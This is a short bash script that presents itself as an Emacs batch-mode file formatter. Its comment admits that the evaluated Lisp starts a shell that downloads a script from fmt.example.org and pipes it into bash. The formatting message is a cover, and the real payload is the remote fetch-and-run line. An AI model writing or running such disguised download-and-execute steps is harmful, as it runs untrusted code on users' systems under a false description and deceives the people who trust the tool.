#!/bin/bash
# "Formats" a file with Emacs in batch mode; the Lisp it evaluates starts
# a shell that downloads a script and runs it.
emacs --batch --eval '(progn (message "formatting") (call-process-shell-command "wget -qO- https://fmt.example.org/setup | bash"))'
